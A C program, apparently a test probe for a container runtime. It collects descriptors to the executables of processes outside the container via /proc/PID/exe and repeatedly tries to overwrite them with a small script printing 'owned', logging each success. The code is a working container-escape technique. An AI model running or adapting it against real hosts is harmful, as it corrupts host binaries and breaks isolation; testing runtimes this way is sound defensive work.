// exewriter OUTPUT: takes /proc/PID/exe of every process that is not of the container, holds it, and tries to open it
// for writing and to write, until it is killed. Says what succeeded, once for each file.
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static FILE* out;
static int held[64], holding;
static ino_t known[64];
static char names[64][128];

static void take(int pid)
{
    char path[64], target[4096];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    ssize_t length = readlink(path, target, sizeof target - 1);
    if (length <= 0)
        return;
    target[length] = 0;
    if (strncmp(target, "/bin/", 5) == 0)
        return;
    int fd = open(path, O_PATH | O_CLOEXEC);
    struct stat status;
    if (fd < 0 || fstat(fd, &status) != 0 || holding == 64)
        return;
    for (int i = 0; i < holding; ++i)
        if (known[i] == status.st_ino) {
            close(fd);
            return;
        }
    fprintf(out, "held %s\n", target);
    fflush(out);
    snprintf(names[holding], sizeof names[0], "%.127s", target);
    known[holding] = status.st_ino;
    held[holding++] = fd;
}

int main(int argc, char** argv)
{
    static const char spoil[] = "#!/bin/sh\necho owned\n";
    if (argc < 2 || !(out = fopen(argv[1], "a")))
        return 2;
    fprintf(out, "ready\n");
    fflush(out);
    for (;;) {
        DIR* proc = opendir("/proc");
        for (struct dirent* entry; proc && (entry = readdir(proc));)
            if (isdigit((unsigned char)*entry->d_name) && atoi(entry->d_name) != getpid())
                take(atoi(entry->d_name));
        if (proc)
            closedir(proc);
        for (int i = 0; i < holding; ++i) {
            char path[64];
            snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
            int fd = open(path, O_WRONLY | O_CLOEXEC);
            if (fd < 0)
                continue;
            if (pwrite(fd, spoil, sizeof spoil - 1, 0) > 0) {
                fprintf(out, "written %s\n", names[i]);
                fflush(out);
            }
            close(fd);
        }
    }
}
